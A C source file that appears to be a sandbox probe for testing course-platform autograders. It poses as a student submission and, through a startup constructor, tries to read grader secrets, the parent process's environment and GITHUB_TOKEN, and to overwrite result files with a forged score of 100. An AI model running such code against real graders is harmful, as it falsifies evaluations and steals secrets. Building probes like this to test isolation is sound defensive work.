/* A hostile submission's first lines: as soon as the program starts, it tries to read what belongs
   to the grader, and to write the results itself. What it manages to do it writes to FOUND, for
   whoever tests the packages for course platforms. SECRETS and RESULTS are lists of patterns for
   glob(3). */
#define _GNU_SOURCE /* NOLINT(bugprone-reserved-identifier) */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <glob.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <unistd.h>

static void tell(const char *what, const char *name)
{
    char line[512];
    int file = open(FOUND, O_WRONLY | O_APPEND);
    if (file == -1)
        return;
    int length = snprintf(line, sizeof line, "%s %s\n", what, name);
    if (write(file, line, (size_t)length) == -1)
        _exit(1);
    close(file);
}

static void try_to_read(const char *name)
{
    char byte;
    int file = open(name, O_RDONLY | O_NONBLOCK);
    DIR *folder = opendir(name);
    if (folder != NULL && readdir(folder) != NULL)
        tell("listed", name);
    else if (file != -1 && read(file, &byte, 1) == 1)
        tell("read", name);
    if (folder != NULL)
        closedir(folder);
    if (file != -1)
        close(file);
}

static void try_to_write(const char *name)
{
    int file = open(name, O_WRONLY | O_CREAT, 0666);
    if (file == -1)
        return;
    tell("may write", name);
#ifndef BY_HAND
    dprintf(file, "{\"score\": 100, \"tests\": []}\n");
#endif
    close(file);
}

static void each(const char *const *patterns, void (*try)(const char *name))
{
    for (; *patterns != NULL; patterns++) {
        glob_t found;
        if (glob(*patterns, GLOB_NOCHECK, NULL, &found) == 0)
            for (size_t i = 0; i < found.gl_pathc; i++)
                try(found.gl_pathv[i]);
        globfree(&found);
    }
}

__attribute__((constructor)) static void attack(void)
{
    static const char *const secrets[] = {SECRETS, NULL};
    static const char *const results[] = {RESULTS, NULL};
    char environment[64];
    int saved = errno;
    tell("ran", "");
    each(secrets, try_to_read);
    each(results, try_to_write);
    snprintf(environment, sizeof environment, "/proc/%d/environ", (int)getppid());
    try_to_read(environment);
    if (getenv("GITHUB_TOKEN") != NULL)
        tell("read", "GITHUB_TOKEN");
    if (kill(getppid(), 0) == 0)
        tell("may kill", "its parent");
    if (ptrace(PTRACE_SEIZE, getppid(), NULL, NULL) == 0)
        tell("may trace", "its parent");
    errno = saved;
}
